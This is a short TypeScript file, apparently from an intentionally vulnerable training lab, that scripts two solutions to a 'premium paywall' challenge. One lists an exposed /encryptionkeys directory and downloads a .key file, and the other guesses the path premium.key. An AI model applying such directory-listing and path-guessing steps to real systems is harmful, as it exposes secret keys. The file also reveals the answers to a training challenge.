import type { Attack } from '#lab'
import { walkIn } from './steps.ts'

export const attacks: Attack[] = [
  {
    challenge: 'premiumPaywallChallenge',
    name: 'find the key in the list of keys',
    run: async (tools) => {
      const list = await tools.http.get('/encryptionkeys', { headers: { accept: 'application/json' } })
      const name = list.json<string[]>().find((one) => one.endsWith('.key'))
      tools.expect(name !== undefined, 'no key is listed')
      await walkIn(tools, `/encryptionkeys/${name}`)
    },
  },
  {
    challenge: 'premiumPaywallChallenge',
    name: 'guess the name of the key',
    run: (tools) => walkIn(tools, '/encryptionkeys/premium.key'),
  },
]
